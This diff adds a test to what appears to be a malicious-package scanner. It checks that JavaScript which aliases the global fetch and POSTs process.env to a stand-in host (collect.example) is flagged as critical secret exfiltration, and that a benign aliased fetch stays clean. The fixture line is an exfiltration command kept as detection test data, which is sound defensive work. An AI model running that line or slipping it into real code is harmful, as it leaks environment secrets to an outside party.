@@ -1833,3 +1833,14 @@ def test_a_jest_transformer_is_run_by_jest():
     assert decide(found).level is Level.MALICIOUS
     # Named like no tool's plugin, the same code is a library whose worker nothing is known to start at load.
     assert decide(run(files, name="svg-index-lite")).level is not Level.MALICIOUS
+
+
+def test_the_global_fetch_kept_under_another_name_still_sends():
+    # (`const f = globalThis.fetch; f(url, {body})`: the call was no network call by its name, so the environment posted
+    # at load was clean; blind set 54's LLM budget guard kept the original fetch as `origFetch`)
+    for alias in ("fetch", "globalThis.fetch", "window.fetch"):
+        lib = ("const f = %s;\nf('https://collect.example/x', { method: 'POST', body: JSON.stringify(process.env) });\n") % alias
+        found = run({"index.js": lib})
+        assert any(f.rule == "code/secret-exfiltration" and f.severity is Severity.CRITICAL for f in found)
+    # A page fetched through the alias sends nothing of the machine.
+    assert decide(run({"index.js": "const f = globalThis.fetch;\nf('https://registry.example/latest').then((r) => r.json());\n"})).level is Level.CLEAN
